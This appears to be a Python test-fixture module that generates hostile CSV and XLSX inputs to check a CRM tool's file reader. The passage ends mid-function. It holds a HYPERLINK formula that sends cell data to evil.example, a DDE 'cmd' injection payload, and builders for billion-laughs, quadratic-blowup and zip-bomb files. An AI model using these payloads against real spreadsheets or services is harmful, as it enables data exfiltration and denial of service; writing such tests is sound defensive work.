"""A corpus of hostile input files, built at test time (nothing big is committed).

``build_corpus(folder)`` writes every file and returns a list of :class:`Case`. Each case says
what the reader must do with it:

- ``expect="read"``: read, with ``cells`` (``{(row, column): value}``) exact and ``sentinels``
  (values that must survive reading and every output) present; ``problems`` are codes that must
  be reported in ``source_info(df).problems``.
- ``expect="error"``: refused with a one-line :class:`~crmcli.errors.CrmError` (exit 3).
- ``expect="either"``: whichever, as long as the generic rules hold.

Workbooks are written as raw XML parts (``make_xlsx``) so that every trap is exactly the one
named: a wrong ``<dimension>``, formulas without cached values, the 1904 date system...
"""

from __future__ import annotations

import gzip
import io
import os
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

# --------------------------------------------------------------------------- cases


@dataclass
class Case:
    name: str
    expect: str  # "read" | "error" | "either"
    note: str
    make: Callable[[Path], None]  # writes the file at the given path
    cells: dict[tuple[int, str], str] = field(default_factory=dict)
    sentinels: tuple[str, ...] = ()
    problems: tuple[str, ...] = ()
    columns: tuple[str, ...] | None = None
    rows: int | None = None
    #: extra read_table keywords (e.g. an explicit --encoding)
    options: dict[str, Any] = field(default_factory=dict)
    path: Path | None = None


def _bytes(data: bytes) -> Callable[[Path], None]:
    return lambda p: p.write_bytes(data)


def _text(text: str, encoding: str = "utf-8") -> Callable[[Path], None]:
    return lambda p: p.write_bytes(text.encode(encoding))


BASE = "客户ID,客户名称,联系电话,金额,备注\n1001,张三,13812345678,120.50,first\n1002,李四,13912345678,-30,second\n"
BASE_CELLS = {(2, "客户名称"): "张三", (3, "金额"): "-30", (3, "备注"): "second"}

# --------------------------------------------------------------------------- xlsx by hand

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ' \
      'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_STYLES = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><styleSheet {_NS}>'
           '<numFmts count="1"><numFmt numFmtId="164" formatCode="yyyy-mm-dd"/></numFmts>'
           '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
           '<fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/>'
           '</fill></fills><borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
           '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
           '<cellXfs count="3"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
           '<xf numFmtId="0" fontId="0" fillId="1" borderId="0" xfId="0" applyFill="1"/>'
           '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
           '</styleSheet>')


def _col(n: int) -> str:
    s = ""
    n += 1
    while n:
        n, r = divmod(n - 1, 26)
        s = chr(65 + r) + s
    return s


def cell(ref: str, v: Any, style: int | None = None) -> str:
    """One ``<c>``: str -> inline string, number -> number, ``("f", formula, cached|None)``,
    ``("e", "#DIV/0!")`` error, ``("s", None)`` styled empty cell."""
    s = f' s="{style}"' if style is not None else ""
    if isinstance(v, tuple):
        kind = v[0]
        if kind == "f":
            cached = "" if v[2] is None else f"<v>{v[2]}</v>"
            return f'<c r="{ref}"{s}><f>{escape(v[1])}</f>{cached}</c>'
        if kind == "e":
            return f'<c r="{ref}"{s} t="e"><v>{v[1]}</v></c>'
        return f'<c r="{ref}"{s}/>'
    if isinstance(v, (int, float)) and not isinstance(v, bool):
        return f'<c r="{ref}"{s}><v>{v}</v></c>'
    return f'<c r="{ref}"{s} t="inlineStr"><is><t xml:space="preserve">{escape(str(v))}</t></is></c>'


def rows_xml(rows: list[list[Any]], start: int = 1) -> str:
    out = []
    for i, row in enumerate(rows, start=start):
        cells = "".join(cell(f"{_col(j)}{i}", v) for j, v in enumerate(row) if v is not None)
        out.append(f'<row r="{i}">{cells}</row>')
    return "".join(out)


def sheet_xml(body: str, dimension: str | None = None, merges: tuple[str, ...] = (), head: str = "") -> str:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    merge = (f'<mergeCells count="{len(merges)}">' + "".join(f'<mergeCell ref="{m}"/>' for m in merges)
             + "</mergeCells>") if merges else ""
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{head}<worksheet {_NS}>{dim}'
            f"<sheetData>{body}</sheetData>{merge}</worksheet>")


def make_xlsx(sheets: list[dict[str, Any]], *, date1904: bool = False, level: int = 6,
              extra: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()) -> bytes:
    """A workbook from raw parts. Each sheet: ``name``, ``xml`` (the worksheet part), optional
    ``state`` ("hidden"), ``chart=True`` for a chartsheet."""
    ct = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/xl/workbook.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
          '<Override PartName="/xl/styles.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>']
    wb_sheets, rels, parts = [], [], {}
    for i, sh in enumerate(sheets, start=1):
        if sh.get("chart"):
            part, kind = f"chartsheets/sheet{i}.xml", "chartsheet"
            parts["xl/" + part] = (f'<?xml version="1.0" encoding="UTF-8"?><chartsheet {_NS}><sheetViews>'
                                   '<sheetView workbookViewId="0"/></sheetViews></chartsheet>')
        else:
            part, kind = f"worksheets/sheet{i}.xml", "worksheet"
            parts["xl/" + part] = sh["xml"]
        ct.append(f'<Override PartName="/xl/{part}" ContentType="application/'
                  f'vnd.openxmlformats-officedocument.spreadsheetml.{kind}+xml"/>')
        state = f' state="{sh["state"]}"' if sh.get("state") else ""
        wb_sheets.append(f'<sheet name="{escape(sh["name"])}" sheetId="{i}"{state} r:id="rId{i}"/>')
        rels.append(f'<Relationship Id="rId{i}" Type="{_REL}/{kind}" Target="{part}"/>')
    rels.append(f'<Relationship Id="rId{len(sheets) + 1}" Type="{_REL}/styles" Target="styles.xml"/>')
    if extra and "xl/sharedStrings.xml" in extra:
        rels.append(f'<Relationship Id="rId{len(sheets) + 2}" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>')
        ct.append('<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                  'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
    ct.append("</Types>")
    pr = '<workbookPr date1904="1"/>' if date1904 else "<workbookPr/>"
    files = {
        "[Content_Types].xml": "".join(ct),
        "_rels/.rels": ('<?xml version="1.0" encoding="UTF-8"?><Relationships '
                        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                        f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/>'
                        "</Relationships>"),
        "xl/workbook.xml": (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook {_NS}>{pr}'
                            f'<sheets>{"".join(wb_sheets)}</sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": ('<?xml version="1.0" encoding="UTF-8"?><Relationships '
                                       'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                                       + "".join(rels) + "</Relationships>"),
        "xl/styles.xml": _STYLES,
        **parts,
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, content in files.items():
            if name not in drop:
                zf.writestr(name, content if isinstance(content, bytes) else content.encode("utf-8"))
        for name, content in (extra or {}).items():
            zf.writestr(name, content)
    return buf.getvalue()


TABLE = [["客户ID", "客户名称", "金额", "备注"], ["1001", "张三", 120.5, "first"], ["1002", "李四", -30, "second"]]


def simple_xlsx() -> bytes:
    return make_xlsx([{"name": "data", "xml": sheet_xml(rows_xml(TABLE), "A1:D3")}])


def _styled_empty_rows(n: int) -> bytes:
    """Header + 2 rows, then ``n`` rows of styled empty cells (as some ERP exports do)."""
    head = rows_xml(TABLE)
    filler = "".join(f'<row r="{i}"><c r="A{i}" s="1"/><c r="B{i}" s="1"/><c r="C{i}" s="1"/></row>'
                     for i in range(4, n + 4))
    return make_xlsx([{"name": "data", "xml": sheet_xml(head + filler, f"A1:D{n + 3}")}], level=1)


def _deflate_bomb(inflated_mb: int) -> bytes:
    """A valid-looking workbook whose sheet inflates to ``inflated_mb`` MiB of whitespace."""
    chunk = b" " * (1 << 20)
    xml = sheet_xml(rows_xml(TABLE)).encode()
    half = xml.index(b"<sheetData>")
    # Build the member by hand: prefix + a megabyte-scale whitespace run + suffix, deflated once.
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = comp.compress(xml[:half])
    for _ in range(inflated_mb):
        data += comp.compress(chunk)
    data += comp.compress(xml[half:]) + comp.flush()
    crc = zlib.crc32(xml[:half])
    for _ in range(inflated_mb):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(xml[half:], crc)
    size = len(xml) + inflated_mb * len(chunk)
    base = make_xlsx([{"name": "data", "xml": sheet_xml(rows_xml(TABLE))}], drop=("xl/worksheets/sheet1.xml",))
    return _append_raw_member(base, "xl/worksheets/sheet1.xml", data, crc, size)


def _append_raw_member(zip_bytes: bytes, name: str, deflated: bytes, crc: int, size: int) -> bytes:
    """Add an already-deflated member to a zip (so a 500 MiB member never exists in memory)."""
    import struct

    src = zipfile.ZipFile(io.BytesIO(zip_bytes))
    out = io.BytesIO()
    central = []
    for info in src.infolist():
        raw_off = out.tell()
        content = src.read(info.filename)
        c = zlib.compressobj(6, zlib.DEFLATED, -15)
        comp = c.compress(content) + c.flush()
        central.append(_write_member(out, info.filename.encode(), comp, zlib.crc32(content), len(content), raw_off))
    central.append(_write_member(out, name.encode(), deflated, crc, size, out.tell()))
    cd_start = out.tell()
    for entry in central:
        out.write(entry)
    cd_size = out.tell() - cd_start
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), cd_size, cd_start, 0))
    return out.getvalue()


def _write_member(out: io.BytesIO, name: bytes, comp: bytes, crc: int, size: int, offset: int) -> bytes:
    import struct

    out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(comp), size, len(name), 0))
    out.write(name)
    out.write(comp)
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(comp), size,
                       len(name), 0, 0, 0, 0, 0, offset) + name


def _bad_crc() -> bytes:
    data = bytearray(simple_xlsx())
    # Flip one byte inside the compressed data of the first worksheet member.
    idx = data.index(b"xl/worksheets/sheet1.xml") + len(b"xl/worksheets/sheet1.xml") + 10
    data[idx] ^= 0x55
    return bytes(data)


def _billion_laughs(part: str) -> bytes:
    ents = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">' for i in range(1, 10))
    head = f"<!DOCTYPE worksheet [{ents}]>"
    rows = rows_xml([["name", "note"], ["a", "X"]]).replace(">X<", ">&lol9;<")
    xml = sheet_xml(rows, head=head)
    if part == "sheet":
        return make_xlsx([{"name": "data", "xml": xml}])
    # in sharedStrings
    sst = (f'<?xml version="1.0"?><!DOCTYPE sst [{ents}]><sst {_NS} count="1" uniqueCount="1">'
           "<si><t>&lol9;</t></si></sst>")
    sheet = sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
    return make_xlsx([{"name": "data", "xml": sheet}], extra={"xl/sharedStrings.xml": sst.encode()})


def _quadratic_blowup() -> bytes:
    big = "A" * 50_000
    head = f'<!DOCTYPE worksheet [<!ENTITY a "{big}">]>'
    rows = rows_xml([["name", "note"], ["a", "X"]]).replace(">X<", ">" + "&a;" * 20_000 + "<")
    return make_xlsx([{"name": "data", "xml": sheet_xml(rows, head=head)}])


def _png() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(40)


def _ole2() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"garbage" * 100


def _wide_csv(ncols: int) -> bytes:
    header = ",".join(f"c{i}" for i in range(ncols))
    row = ",".join(str(i % 10) for i in range(ncols))
    return (header + "\n" + row + "\n").encode()


# --------------------------------------------------------------------------- the corpus

HYPER = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
CMD = "+cmd|' /C calc'!A0"


#: an orders table (the examples' headers) whose text cells are formula-looking or otherwise hostile
ORDERS_ROWS = [
    ["订单号", "客户ID", "客户名称", "联系电话", "下单日期", "产品", "数量", "金额", "渠道"],
    ["=1+1", HYPER, HYPER, "13812345678", "2024-01-05", "@SUM(A1)", "1", "120.5", CMD],
    ["O2", HYPER, HYPER, "13812345678", "2024-02-05", "@SUM(A1)", "2", "-30", "-2+3"],
    ["O3", "C2", "NA", "13912345678", "2024-03-05", "=cmd|x", "1", "99", "@chan"],
    ["O4", "C3", "Null", "+8613712345678", "2024-03-07", "-2+3", "1", "10", "=A1"],
    ["O5", "123456789012345678", "李四", "13712345678", "2024-03-09", "普通", "1", "10", "线上"],
    ["O6", "9007199254740993", "李四", "13712345678", "2024-03-09", "\t普通", "1", "1e3", "线上"],
    ["合计", "", "", "", "", "", "", "1209.5", ""],
]
ORDERS_HOSTILE = "".join(",".join('"' + v.replace('"', '""') + '"' for v in r) + "\n" for r in ORDERS_ROWS)


def cases() -> list[Case]:
    c: list[Case] = []
    add = c.append
    # ---- emptiness
    add(Case("empty.csv", "error", "zero bytes", _bytes(b"")))
    add(Case("header_only.csv", "read", "a header and no rows", _text("id,name,phone\n"),
             columns=("id", "name", "phone"), rows=0))
    add(Case("blank_lines_only.csv", "error", "only blank lines", _text("\n\r\n  \n\n")))
    add(Case("commas_only.csv", "either", "only delimiters", _text(",,,\n,,,\n")))
    # ---- encodings
    add(Case("bom.csv", "read", "UTF-8 with BOM", _bytes(b"\xef\xbb\xbf" + BASE.encode()), cells=BASE_CELLS,
             columns=("客户ID", "客户名称", "联系电话", "金额", "备注")))
    add(Case("bom_quoted_header.csv", "read", "BOM before a quoted header",
             _bytes(b'\xef\xbb\xbf"id","name"\n"1","Ann"\n'), cells={(2, "id"): "1", (2, "name"): "Ann"},
             columns=("id", "name")))
    gb = "客户ID,客户名称,备注\n1,刘䶮,outside GBK\n2,张三,ok\n"
    add(Case("gb18030_outside_gbk.csv", "read", "GB18030 name outside GBK", _text(gb, "gb18030"),
             cells={(2, "客户名称"): "刘䶮", (3, "客户名称"): "张三"}))
    add(Case("gb18030_explicit.csv", "read", "GB18030 with --encoding", _text(gb, "gb18030"),
             options={"encoding": "gb18030"}, cells={(2, "客户名称"): "刘䶮"}))
    for enc, bom, label in (("utf-16-le", b"\xff\xfe", "le"), ("utf-16-be", b"\xfe\xff", "be")):
        add(Case(f"utf16{label}_bom.csv", "read", f"UTF-16 {label.upper()} with BOM",
                 _bytes(bom + BASE.encode(enc)), cells=BASE_CELLS))
        add(Case(f"utf16{label}_nobom.csv", "read", f"UTF-16 {label.upper()} without BOM",
                 _bytes(BASE.encode(enc)), cells=BASE_CELLS))
    add(Case("cp1252.csv", "read", "Windows-1252 (curly quotes, é, €)",
             _text("name,city,amount\nJosé Müller,Zürich,€12\n“Smart” Ltd,Köln,5\n", "cp1252"),
             cells={(2, "name"): "José Müller", (3, "name"): "“Smart” Ltd", (2, "amount"): "€12"}))
    add(Case("invalid_byte_utf8.csv", "error", "one invalid byte in the middle of a UTF-8 file",
             _bytes(("客户,备注\n张三,ok\n" * 20).encode() + b"\xff" + ("李四,ok\n" * 20).encode())))
    # ---- line endings
    add(Case("mixed_line_endings.csv", "read", "LF, CRLF and CR mixed",
             _bytes(b"id,name\r\n1,Ann\n2,Bob\r3,Cy\r\n"), rows=3,
             cells={(2, "name"): "Ann", (3, "name"): "Bob", (4, "name"): "Cy"}))
    add(Case("bare_cr.csv", "read", "bare CR line ends", _bytes(b"id,name\r1,Ann\r2,Bob\r"),
             cells={(3, "name"): "Bob"}, rows=2))
    add(Case("no_final_newline.csv", "read", "no newline at the end", _text("id,name\n1,Ann\n2,Bob"),
             cells={(3, "name"): "Bob"}))
    add(Case("ctrl_z.csv", "read", "Ctrl-Z (0x1A) at the end", _bytes(b"id,name\r\n1,Ann\r\n2,Bob\r\n\x1a"),
             cells={(3, "name"): "Bob"}, rows=2))
    # ---- quoting
    add(Case("embedded_newlines.csv", "read", "newlines inside quoted fields",
             _text('id,address,note\n1,"line 1\nline 2",a\n2,"x\r\ny",b\n3,plain,c\n'),
             cells={(2, "address"): "line 1\nline 2", (3, "address"): "x\r\ny", (4, "note"): "c"}))
    add(Case("unterminated_quote.csv", "error", "an opening quote never closed",
             _text('id,name,note\n1,Ann,ok\n2,"Bob,broken\n3,Cy,ok\n4,Di,ok\n')))
    add(Case("quote_swallows_rows.csv", "read", "a stray opening quote closed rows later",
             _text('id,name,note\n1,"Ann,x\n2,Bob,y\n3,Cy",z\n4,Di,w\n'),
             cells={(3, "name"): "Di"}, problems=("suspicious-quote",)))
    many = "id,name,amount\n" + "".join(f"{i},name {i},{i}.5\n" for i in range(1, 5001))  # > 64 KiB: fast path
    add(Case("big_unterminated_quote.csv", "error", "a quote left open on the last line of a large file",
             _text(many + '5001,"open')))
    add(Case("big_quote_then_text.csv", "read", 'a large file with "ab"c on its last line',
             _text(many + '5001,"ab"c,1\n'), cells={(5002, "name"): "abc"}, problems=("stray-quote",)))
    add(Case("big_totals_row.csv", "read", "a large file ending in a Total row",
             _text(many + "Total,,12502500\n"), cells={(5002, "id"): "Total"}, problems=("totals-row",)))
    add(Case("stray_quotes.csv", "read", "quotes in the middle of unquoted fields",
             _text('id,name,size\n1,O"Brien,5" pipe\n2,say "hi",3\n'),
             cells={(2, "name"): 'O"Brien', (2, "size"): '5" pipe', (3, "name"): 'say "hi"'}))
    add(Case("quote_then_text.csv", "either", 'a closed quote followed by text ("abc"def)',
             _text('id,name\n1,"abc"def\n2,ok\n'), sentinels=("ok",)))
    # ---- structure
    add(Case("ragged_rows.csv", "read", "rows with too many and too few fields",
             _text("id,name,phone\n1,Ann,111\n2,Bob\n3,Cy,333,extra,more\n4,Di,444\n"),
             cells={(3, "name"): "Bob", (3, "phone"): "", (4, "phone"): "333", (5, "phone"): "444"},
             sentinels=("extra", "more"), problems=("ragged-row",)))
    add(Case("duplicate_blank_headers.csv", "read", "repeated and blank header cells",
             _text("id,name,,name,\n1,Ann,x,Ann2,y\n"),
             columns=("id", "name", "column_3", "name_2", "column_5"), sentinels=("Ann2", "x", "y"),
             problems=("renamed-header",)))
    add(Case("totals_row.csv", "read", "a 合计 totals row at the bottom",
             _text("订单号,客户名称,金额\nA1,张三,100\nA2,李四,50\n合计,,150\n"),
             cells={(4, "订单号"): "合计", (4, "金额"): "150"}, rows=3, problems=("totals-row",)))
    add(Case("semicolon_decimal_comma.csv", "read", "semicolon delimiter, decimal commas",
             _text("name;amount;qty\nAnn;1,5;2\nBob;1.234,75;3\n"),
             cells={(2, "amount"): "1,5", (3, "amount"): "1.234,75"}, columns=("name", "amount", "qty")))
    add(Case("fullwidth_comma.csv", "read", "full-width comma delimiters",
             _text("客户名称，电话，备注\n张三，13812345678，好\n李四，13912345678，好\n"),
             cells={(2, "电话"): "13812345678", (3, "客户名称"): "李四"}))
    add(Case("title_rows.csv", "read", "title and blank lines above the header",
             _text("客户订单表 2024,,\n,,\nid,name,amount\n1,Ann,5\n"), cells={(4, "name"): "Ann"}))
    # ---- size
    add(Case("cell_1mib.csv", "read", "one 1 MiB cell", _text("id,blob,tail\n1," + "x" * (1 << 20) + ",end\n"),
             cells={(2, "tail"): "end"}, sentinels=("end",)))
    add(Case("line_150kib.csv", "read", "a 150 KiB line of many small fields",
             _text("id,note\n" + "1," + ";".join(["abc"] * 38_000) + "\n2,short\n"),
             cells={(3, "note"): "short"}))
    add(Case("columns_100k.csv", "error", "100,000 columns (Excel holds 16,384)", _bytes(_wide_csv(100_000))))
    add(Case("columns_16384.csv", "read", "exactly Excel's 16,384 columns", _bytes(_wide_csv(16_384)),
             cells={(2, "c16383"): "3"}))
    # ---- characters
    add(Case("nul_and_controls.csv", "read", "NUL bytes and control characters",
             _text("id,name,note\n1,A\x00nn,bell\x07\n2,Bob,tab\there\x1b[31m\n"),
             cells={(2, "name"): "A\x00nn", (2, "note"): "bell\x07", (3, "note"): "tab\there\x1b[31m"}))
    add(Case("big_ids.csv", "read", "2^53+1 and 18-digit ids, e-notation-looking ids",
             _text("customer_id,order_id,name\n9007199254740993,123456789012345678,Ann\n"
                   "2e06918610327a,000123,Bob\n1e5,00,Cy\n"),
             cells={(2, "customer_id"): "9007199254740993", (2, "order_id"): "123456789012345678",
                    (3, "customer_id"): "2e06918610327a", (3, "order_id"): "000123",
                    (4, "customer_id"): "1e5", (4, "order_id"): "00"}))
    add(Case("na_null_names.csv", "read", "customers called NA, Null, None, nan",
             _text("id,name,city\n1,NA,N/A\n2,Null,NULL\n3,None,nan\n4,,#N/A\n"),
             cells={(2, "name"): "NA", (3, "name"): "Null", (4, "name"): "None", (4, "city"): "nan",
                    (5, "name"): "", (5, "city"): "#N/A", (2, "city"): "N/A"}))
    formulas = ("客户名称,电话,备注,金额\n"
                f'"{HYPER.replace(chr(34), chr(34) * 2)}",13812345678,"{CMD}",-12.5\n'
                "Bob,+8613812345678,-2+3,+8\n"
                "Cy,@SUM(A1:A9),\tlead tab,-0.5\n")
    add(Case("formulas_in_data.csv", "read", "formula-looking cells", _text(formulas),
             cells={(2, "客户名称"): HYPER, (2, "备注"): CMD, (3, "备注"): "-2+3", (4, "电话"): "@SUM(A1:A9)",
                    (2, "金额"): "-12.5", (3, "电话"): "+8613812345678"}))
    add(Case("formulas_in_header.csv", "read", "formula-looking header cells",
             _text('=1+2,name,"@SUM(A1)",+cmd|x,-x\n1,Ann,b,c,d\n'),
             columns=("=1+2", "name", "@SUM(A1)", "+cmd|x", "-x"), sentinels=("Ann",)))
    # ---- order-shaped tables: hostile values reach rfm / metrics / pivot / dedupe / report
    add(Case("orders_hostile.csv", "read", "orders with formula-looking ids/names/products, NA/Null customers, "
             "18-digit and 2^53+1 ids, a 合计 row", _text(ORDERS_HOSTILE),
             cells={(2, "客户名称"): HYPER, (2, "产品"): "@SUM(A1)", (4, "客户名称"): "NA",
                    (6, "客户ID"): "123456789012345678", (7, "客户ID"): "9007199254740993"}))
    add(Case("orders_hostile.xlsx", "read", "the same orders as a workbook (inline strings)",
             _bytes(make_xlsx([{"name": "orders", "xml": sheet_xml(rows_xml(ORDERS_ROWS))}])),
             cells={(2, "客户名称"): HYPER, (2, "产品"): "@SUM(A1)", (5, "渠道"): "=A1"}))
    # ---- xlsx traps
    hidden = make_xlsx([{"name": "secret", "state": "hidden", "xml": sheet_xml(rows_xml([["x", "y"], ["s", "t"]]))},
                        {"name": "data", "xml": sheet_xml(rows_xml(TABLE))}])
    add(Case("hidden_first_sheet.xlsx", "read", "the first sheet is hidden", _bytes(hidden),
             cells={(2, "客户名称"): "张三", (3, "金额"): "-30"}))
    merged = rows_xml([["2024 客户订单", None, None, None], [], *TABLE])
    add(Case("merged_title.xlsx", "read", "merged title cells above the header",
             _bytes(make_xlsx([{"name": "data", "xml": sheet_xml(merged, "A1:D5", merges=("A1:D1",))}])),
             cells={(4, "客户名称"): "张三", (5, "金额"): "-30"}))
    ftable = [["name", "a", "b", "sum"], ["Ann", 1, 2, ("f", "B2+C2", 3)], ["Bob", 4, 5, ("f", "B3+C3", None)],
              ["Cy", 1, 0, ("f", "B4/C4", None)]]
    add(Case("formulas_cached_and_not.xlsx", "read", "formulas with and without cached values",
             _bytes(make_xlsx([{"name": "data", "xml": sheet_xml(rows_xml(ftable))}])),
             cells={(2, "sum"): "3", (3, "name"): "Bob"}, problems=("formula-without-value",)))
    d1904 = [["name", "date"], ["Ann", ("s", None)]]
    xml1904 = sheet_xml('<row r="1">' + cell("A1", "name") + cell("B1", "date") + '</row><row r="2">'
                        + cell("A2", "Ann") + '<c r="B2" s="2"><v>43466</v></c></row>')
    del d1904
    add(Case("date1904.xlsx", "read", "1904 date system (serial 43466 = 2023-01-02)",
             _bytes(make_xlsx([{"name": "data", "xml": xml1904}], date1904=True)),
             cells={(2, "date"): "2023-01-02"}))
    errs = [["name", "value"], ["Ann", ("e", "#DIV/0!")], ["Bob", ("e", "#N/A")], ["Cy", ("e", "#REF!")]]
    add(Case("error_cells.xlsx", "read", "error cells #DIV/0! #N/A #REF!",
             _bytes(make_xlsx([{"name": "data", "xml": sheet_xml(rows_xml(errs))}])),
             cells={(2, "value"): "#DIV/0!", (3, "value"): "#N/A", (4, "value"): "#REF!"}, problems=("error-cell",)))
    add(Case("chartsheet_first.xlsx", "read", "a chart sheet before the data",
             _bytes(make_xlsx([{"name": "Chart1", "chart": True},
                               {"name": "data", "xml": sheet_xml(rows_xml(TABLE))}])),
             cells={(2, "客户名称"): "张三"}))
    add(Case("wrong_dimension_small.xlsx", "read", "<dimension> says A1:A1, data reaches D3",
             _bytes(make_xlsx([{"name": "data", "xml": sheet_xml(rows_xml(TABLE), "A1:A1")}])),
             cells={(3, "备注"): "second"}))
    add(Case("wrong_dimension_huge.xlsx", "read", "<dimension> says A1:XFD1048576",
             _bytes(make_xlsx([{"name": "data", "xml": sheet_xml(rows_xml(TABLE), "A1:XFD1048576")}])),
             cells={(3, "备注"): "second"}, columns=("客户ID", "客户名称", "金额", "备注")))
    add(Case("styled_empty_rows_1m.xlsx", "read", "~1M rows of styled empty cells", lambda p: p.write_bytes(
        _styled_empty_rows(1_000_000)), cells={(3, "备注"): "second"}, rows=2))
    bigids = [["id", "name"], [9007199254740993, "Ann"], [123456789012345678, "Bob"], [10023.0, "Cy"]]
    add(Case("big_numbers.xlsx", "read", "ids above 2^53 stored as numbers",
             _bytes(make_xlsx([{"name": "data", "xml": sheet_xml(rows_xml(bigids))}])),
             cells={(2, "id"): "9007199254740993", (3, "id"): "123456789012345678", (4, "id"): "10023"}))
    fx = [["=cmd", "name"], [HYPER, "Ann"], ["@SUM(A1)", "-2+3"]]
    add(Case("formulas_as_text.xlsx", "read", "formula-looking text in cells and header",
             _bytes(make_xlsx([{"name": "data", "xml": sheet_xml(rows_xml(fx))}])),
             cells={(2, "=cmd"): HYPER, (3, "name"): "-2+3"}))
    # ---- wrong formats
    add(Case("png_as.csv", "error", "a PNG renamed .csv", _bytes(_png())))
    add(Case("png_as.xlsx", "error", "a PNG renamed .xlsx", _bytes(_png())))
    add(Case("gzip_as.csv", "error", "a gzip renamed .csv", _bytes(gzip.compress(BASE.encode()))))
    add(Case("zip_as.csv", "error", "a plain zip renamed .csv", _bytes(_zip({"a.txt": b"hello"}))))
    add(Case("html_as.csv", "error", "an HTML page renamed .csv",
             _text("<!DOCTYPE html><html><body><table><tr><td>1</td></tr></table></body></html>")))
    add(Case("html_as.xlsx", "error", "an HTML page renamed .xlsx",
             _text("<html><body><table><tr><td>1</td></tr></table></body></html>")))
    add(Case("json_as.csv", "read", "a JSON list of records renamed .csv",
             _text('[{"id": 1, "name": "Ann"}, {"id": 2, "name": "=cmd"}]'),
             cells={(2, "name"): "Ann", (3, "name"): "=cmd"}))
    add(Case("json_as.xlsx", "read", "JSON renamed .xlsx", _text('[{"id": 1, "name": "Ann"}]'),
             cells={(2, "name"): "Ann"}))
    add(Case("csv_as.xlsx", "read", "a CSV named .xlsx", _text(BASE), cells=BASE_CELLS))
    add(Case("xlsx_as.csv", "read", "an xlsx named .csv", _bytes(simple_xlsx()), cells={(2, "客户名称"): "张三"}))
    add(Case("truncated.xlsx", "error", "a workbook cut in half", lambda p: p.write_bytes(
        simple_xlsx()[: len(simple_xlsx()) // 2])))
    add(Case("bad_crc.xlsx", "error", "a corrupted member (bad CRC)", _bytes(_bad_crc())))
    add(Case("zip_no_workbook.xlsx", "error", "a zip without xl/workbook.xml", _bytes(_zip({"hello.txt": b"hi"}))))
    add(Case("workbook_missing_sheet.xlsx", "error", "workbook.xml names a sheet part that is missing",
             _bytes(make_xlsx([{"name": "data", "xml": sheet_xml(rows_xml(TABLE))}],
                              drop=("xl/worksheets/sheet1.xml",)))))
    add(Case("zero_bytes.xlsx", "error", "a zero-byte .xlsx", _bytes(b"")))
    add(Case("ole2_header.xls", "error", "an OLE2 header with garbage after it", _bytes(_ole2())))
    add(Case("ole2_as.xlsx", "error", "an OLE2 header named .xlsx", _bytes(_ole2())))
    # ---- bombs
    add(Case("billion_laughs_sheet.xlsx", "error", "billion laughs in a worksheet",
             _bytes(_billion_laughs("sheet"))))
    add(Case("billion_laughs_sst.xlsx", "error", "billion laughs in sharedStrings",
             _bytes(_billion_laughs("sst"))))
    add(Case("quadratic_blowup.xlsx", "error", "quadratic blowup entity", _bytes(_quadratic_blowup())))
    add(Case("zip_bomb_500m.xlsx", "error", "a small zip that inflates to 500 MiB",
             lambda p: p.write_bytes(_deflate_bomb(500))))
    return c


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for k, v in members.items():
            zf.writestr(k, v)
    return buf.getvalue()


def special_cases(folder: Path) -> list[Case]:
    """Paths that are not plain files: a directory, an unreadable file, a missing path, a loop."""
    out = []
    d = folder / "a_directory.csv"
    d.mkdir(exist_ok=True)
    out.append(Case("a_directory.csv", "error", "a directory as input", lambda p: None, path=d))
    locked = folder / "unreadable.csv"
    locked.write_text(BASE, encoding="utf-8")
    os.chmod(locked, 0)
